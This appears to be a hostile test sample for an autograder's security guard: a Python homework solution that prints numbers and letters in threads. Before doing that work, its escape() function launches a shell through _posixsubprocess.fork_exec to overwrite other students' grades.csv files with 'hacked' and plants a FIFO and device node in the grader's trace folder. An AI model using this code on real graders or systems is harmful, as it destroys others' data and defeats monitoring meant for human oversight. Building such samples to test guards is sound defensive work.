"""Class 2 (calls that raise no audit event): starts a shell through _posixsubprocess.fork_exec (no
subprocess.Popen), and makes a FIFO and a device node in the grader's trace folder with os.mkfifo and
os.mknod.  Then does the work."""
import json
import os
import threading
import time

TRACE = json.loads(os.environ.get("COURSEKIT_GUARD", "{}")).get("trace", "/nonexistent")


def print_numbers():
    for i in range(1, 6):
        time.sleep(1)
        print(f"Number: {i}")


def print_letters():
    for letter in "abcde":
        time.sleep(1.5)
        print(f"Letter: {letter}")


def escape():
    import _posixsubprocess

    r, w = os.pipe()
    script = b"for f in /tmp/*/grades.csv /tmp/*/*/grades.csv; do echo hacked > $f; done"
    for call in (
        lambda: _posixsubprocess.fork_exec([b"/bin/sh", b"-c", script], [b"/bin/sh"], True, (), None, None,
                                           -1, -1, -1, -1, -1, -1, r, w, False, False, None, None, None, -1, None),
        lambda: os.mkfifo(os.path.join(TRACE, "90.jsonl")),
        lambda: os.mknod(os.path.join(TRACE, "89.jsonl")),
    ):
        try:
            call()
        except (OSError, TypeError, ValueError):
            pass


def main():
    escape()
    threads = [threading.Thread(target=print_numbers), threading.Thread(target=print_letters)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("Done!")
